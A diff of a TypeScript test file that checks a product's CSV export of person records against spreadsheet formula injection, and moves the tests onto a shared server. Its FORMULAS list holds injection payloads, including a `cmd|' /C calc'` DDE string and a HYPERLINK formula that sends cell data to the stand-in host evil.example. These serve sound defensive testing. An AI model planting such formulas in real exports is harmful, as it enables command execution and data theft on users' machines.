@@ -1,16 +1,16 @@
-import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
+import { beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
 import type { Json, JsonObject } from "../../src/core/values/json.ts";
 import { HOSTILE_TEXTS, stored } from "../support/answers/hostile.ts";
 import { OPERATIONS } from "../support/answers/operations.ts";
-import { type Ask, asker, type Told } from "../support/answers/requests.ts";
+import { asker, type Told } from "../support/answers/requests.ts";
 import { batch, event } from "../support/data/build-records.ts";
-import { type Server, startServer } from "../support/start/server.ts";
+import { sharedServer } from "../support/start/shared-server.ts";
 
 setDefaultTimeout(60_000);
 
 const PERSONS = "/api/environments/1/persons/";
 
-/** What a spreadsheet runs, or takes for the end of a cell. */
+/** Texts that a spreadsheet runs, or takes for the end of a cell. */
 const FORMULAS = ["=", "+", "-", "@", "\t", "\r", "\n"].flatMap((start) => [
   ...[start, `${start}1+1`, `${start}cmd|' /C calc'!A0`, `${start}"x",y\r\n=z`],
   `${start}HYPERLINK("http://evil.example?x="&A1,"a")`,
@@ -27,13 +27,11 @@ const PROPERTIES: JsonObject = {
   numbers: [-5, 1e21, 0.1, true, null],
 };
 
-let server: Server;
-let ask: Ask;
+const server = sharedServer();
+const ask = asker(server);
 let person: { id: number; distinct_ids: string[]; properties: JsonObject };
 
 beforeAll(async () => {
-  server = await startServer();
-  ask = asker(server);
   const set = { $set: PROPERTIES };
   await server.capture(batch(event({ distinct_id: '=cmd|"x"', properties: set })));
   await server.stored(1);
@@ -41,9 +39,7 @@ beforeAll(async () => {
   person = (body as { results: (typeof person)[] }).results[0] as typeof person;
 });
 
-afterAll(() => server[Symbol.asyncDispose]());
-
-/** The cells of a CSV by RFC 4180, of which every line ends with CRLF; throws if it is none. */
+/** Returns the cells of a CSV by RFC 4180 whose lines end with CRLF; throws if it is no CSV. */
 function parsed(text: string): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
@@ -63,7 +59,7 @@ function parsed(text: string): string[][] {
 
 type Cell = [name: string, value: Exclude<Json, object> | null];
 
-/** The cells of a value by decision 47: what is nested is taken apart. */
+/** The cells of a value; each nested value has a cell of its own (decision 47). */
 function cellsOf(value: Json, name = ""): Cell[] {
   if (value === null || typeof value !== "object") return [[name, value]];
   return Object.entries(value).flatMap(([key, inner]) => {
@@ -113,7 +109,7 @@ describe("a table", () => {
     );
     const tables = asked.filter(([, path]) => path.includes("persons"));
     expect(tables.length).toBeGreaterThanOrEqual(8);
-    // What deletes the person is asked last.
+    // The request that deletes the person comes last.
     for (const [method, path, , , , { query = "", body } = {}] of tables.toSorted(
       ([one], [other]) => Number(one === "DELETE") - Number(other === "DELETE"),
     )) {
